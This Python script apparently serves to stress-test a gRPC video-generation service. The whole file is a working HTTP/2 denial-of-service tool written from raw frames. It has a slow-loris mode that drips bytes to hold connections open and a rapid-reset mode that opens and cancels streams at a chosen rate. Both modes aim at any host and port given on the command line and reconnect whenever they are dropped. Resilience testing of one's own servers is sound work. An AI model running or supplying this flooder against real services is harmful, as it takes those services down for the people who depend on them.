"""Connections that mean no good, as a process of its own: `python flooders.py KIND HOST:PORT COUNT RATE`.

`loris`: half of them never end their first line, half open a call and send its message a byte at a time. `resets`:
calls that are begun and reset at once, RATE a second on each connection. They speak HTTP/2 by themselves: no library
would do that.
"""

import asyncio
import itertools
import random
import struct
import sys
from contextlib import suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0x0, 0x1, 0x3, 0x4, 0x6
_END_HEADERS, _ACK = 0x4, 0x1
_CANCEL = struct.pack(">I", 8)
_DRIP_S = 1.0
_AGAIN_S = 0.05
_PATH = "/worldtree.video.v1.VideoGenerator/ListModels"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(stream: int) -> bytes:
    """Of a unary call, written out literally."""
    said = {
        ":method": "POST",
        ":scheme": "http",
        ":path": _PATH,
        ":authority": "flood",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    block = b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in said.items()
    )
    return frame(_HEADERS, _END_HEADERS, stream, block)


async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """What a server wants to be acknowledged, is."""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        kind, flags = head[3], head[4]
        if kind in (_SETTINGS, _PING) and not flags & _ACK:
            writer.write(frame(kind, _ACK, 0, payload if kind == _PING else b""))


async def _loris(writer: asyncio.StreamWriter, index: int) -> None:
    sent = _PREFACE
    if index % 2:
        writer.write(_PREFACE + frame(_SETTINGS, 0, 0) + headers(1))
        sent = frame(_DATA, 0, 1, struct.pack(">BI", 0, 4096) + bytes(4096))
    for byte in sent:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(_DRIP_S)


async def _resets(writer: asyncio.StreamWriter, rate: float) -> None:
    writer.write(_PREFACE + frame(_SETTINGS, 0, 0))
    for stream in itertools.count(1, 2):
        await asyncio.sleep(random.expovariate(rate))  # each when it likes
        writer.write(headers(stream) + frame(_RESET, 0, stream, _CANCEL))
        await writer.drain()


async def _connection(kind: str, host: str, port: int, index: int, rate: float) -> None:
    """Again and again: whoever is thrown out comes back."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, port)
            answering = asyncio.create_task(_answer(reader, writer))
            try:
                await (_loris(writer, index) if kind == "loris" else _resets(writer, rate))
            finally:
                answering.cancel()
                writer.close()
        await asyncio.sleep(_AGAIN_S)


async def flood(kind: str, address: str, count: int, rate: float) -> None:
    host, _, port = address.rpartition(":")
    connections = [asyncio.create_task(_connection(kind, host, int(port), each, rate)) for each in range(count)]
    print(f"ready grpc={address}", flush=True)
    await asyncio.gather(*connections)


if __name__ == "__main__":
    asyncio.run(flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])))
